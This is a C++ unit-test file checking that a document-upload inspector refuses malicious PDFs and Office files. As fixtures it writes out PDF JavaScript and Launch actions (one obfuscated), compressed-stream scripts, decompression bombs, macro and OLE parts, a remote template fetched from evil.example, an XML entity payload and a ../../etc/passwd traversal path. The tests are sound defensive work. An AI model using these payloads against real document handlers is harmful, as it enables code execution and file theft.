// SPDX-License-Identifier: Apache-2.0
// What is refused of a paper.
#include <gmock/gmock.h>

#include "platform/file/office_paper.hpp"
#include "platform/file/pdf_paper.hpp"
#include "platform/file/sniff.hpp"
#include "platform/file/test_pictures.hpp"
#include "platform/file/test_zip.hpp"

namespace kheo::file {
namespace {

using namespace test;

std::string key_of(const auto& result) {
    return result ? std::string() : std::string(result.error().message.key());
}

TEST(PaperPdf, a_whole_one_is_taken) {
    EXPECT_EQ(key_of(inspect_pdf(pdf_of(3), 300)), "");
    EXPECT_EQ(sniff(pdf_of(1)).value(), Type::pdf);
}

TEST(PaperPdf, a_torn_one_is_not) {
    const auto whole = pdf_of(3);
    EXPECT_EQ(key_of(inspect_pdf(whole.substr(0, whole.size() / 2), 300)), "file.torn_paper");
    EXPECT_EQ(key_of(inspect_pdf("%PDF-1.4\n<< >>\nstream\nxx %%EOF", 300)), "file.torn_paper");
}

TEST(PaperPdf, more_pages_than_anybody_reads_are_refused) {
    EXPECT_EQ(key_of(inspect_pdf(pdf_of(301), 300)), "file.too_many_pages");
    EXPECT_EQ(key_of(inspect_pdf(pdf_of(300), 300)), "");
}

TEST(PaperPdf, scripts_and_programs_are_refused_however_they_are_spelt) {
    for (const auto* more :
         {"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "/OpenAction << /S /J#61va#53cript >>",
          "/AA << /O << /S /Launch >> >>", "/Names << /EmbeddedFiles 9 0 R >>", "/AcroForm << /XFA 9 0 R >>"})
        EXPECT_EQ(key_of(inspect_pdf(pdf_of(1, more), 300)), "file.active_pdf") << more;
    EXPECT_EQ(key_of(inspect_pdf(pdf_of(1, "/Encrypt 9 0 R"), 300)), "file.locked");
}

TEST(PaperPdf, a_script_packed_into_an_object_stream_is_found) {
    auto with = [](const std::string& packed, const std::string& dictionary) {
        auto pdf = pdf_of(1);
        const auto object = "8 0 obj\n<< /Type /ObjStm /N 1 " + dictionary + " >>\nstream\n" + packed +
                            "\nendstream\nendobj\n";
        return pdf.insert(pdf.find("trailer"), object);
    };
    const std::string script = "1 0 << /S /JavaScript /JS (x) >>";
    EXPECT_EQ(key_of(inspect_pdf(with(deflated(script), "/Filter /FlateDecode"), 300)), "file.active_pdf");
    EXPECT_EQ(key_of(inspect_pdf(with(script, ""), 300)), "file.active_pdf");
    EXPECT_EQ(key_of(inspect_pdf(with(deflated("1 0 << /A 1 >>"), "/Filter /FlateDecode"), 300)), "");
    const auto bomb = deflated(std::string(80u << 20, ' '));
    EXPECT_EQ(key_of(inspect_pdf(with(bomb, "/Filter /FlateDecode"), 300)), "file.bomb");
}

TEST(PaperPdf, three_letters_by_chance_inside_a_picture_are_no_script) {
    auto pdf = pdf_of(1);
    pdf.insert(pdf.find("trailer"),
               "8 0 obj\n<< /Subtype /Image >>\nstream\nxx/JS yy/XFA(\nendstream\nendobj\n");
    EXPECT_EQ(key_of(inspect_pdf(pdf, 300)), "");
}

TEST(PaperOffice, each_kind_is_told_by_its_parts) {
    EXPECT_EQ(sniff(docx()).value(), Type::docx);
    EXPECT_EQ(sniff(odt()).value(), Type::odt);
    EXPECT_EQ(sniff(xlsx()).value(), Type::xlsx);
    for (const auto& whole : {docx(), odt(), xlsx()}) EXPECT_EQ(key_of(inspect_office(whole)), "");
}

TEST(PaperOffice, any_other_archive_is_refused_whatever_its_name) {
    EXPECT_EQ(key_of(sniff(zip_of({{"a.txt", "x"}}))), "file.other_archive");
    EXPECT_EQ(key_of(sniff(docx().substr(0, 200))), "file.broken_paper");
    EXPECT_EQ(key_of(sniff(zip_of({{"../../etc/passwd", "x"}}))), "file.broken_paper");
}

TEST(PaperOffice, a_bomb_is_refused) {
    EXPECT_EQ(key_of(sniff(docx({{"word/media/a.xml", std::string(60u << 20, ' ')}}))), "file.bomb");
}

TEST(PaperOffice, macros_programs_and_fetched_templates_are_refused) {
    EXPECT_EQ(key_of(inspect_office(docx({{"word/vbaProject.bin", "x"}}))), "file.active_office");
    EXPECT_EQ(key_of(inspect_office(docx({{"word/embeddings/oleObject1.bin", "x"}}))), "file.active_office");
    EXPECT_EQ(key_of(inspect_office(docx({{"word/activeX/activeX1.xml", "<a/>"}}))), "file.active_office");
    EXPECT_EQ(key_of(inspect_office(odt({{"Basic/Standard/Module1.xml", "<a/>"}}))), "file.active_office");
    EXPECT_EQ(key_of(inspect_office(docx(
                  {{"word/_rels/settings.xml.rels",
                    "<Relationships><Relationship Id=\"r1\" Type=\"http://x/attachedTemplate\" "
                    "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"}}))),
              "file.active_office");
    EXPECT_EQ(key_of(inspect_office(docx({{"word/x.xml", "<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>"}}))),
              "file.active_office");
    EXPECT_EQ(key_of(sniff(
                  zip_of({{"[Content_Types].xml", "application/vnd.ms-word.document.macroEnabled.main+xml"},
                          {"word/document.xml", "<w/>"}}))),
              "file.active_office");
}

TEST(PaperOffice, a_plain_link_is_none_of_them) {
    EXPECT_EQ(key_of(inspect_office(
                  docx({{"word/_rels/document.xml.rels",
                         "<Relationships><Relationship Id=\"r1\" Type=\"http://x/hyperlink\" "
                         "Target=\"http://example.org/\" TargetMode=\"External\"/></Relationships>"}}))),
              "");
}

}  // namespace
}  // namespace kheo::file
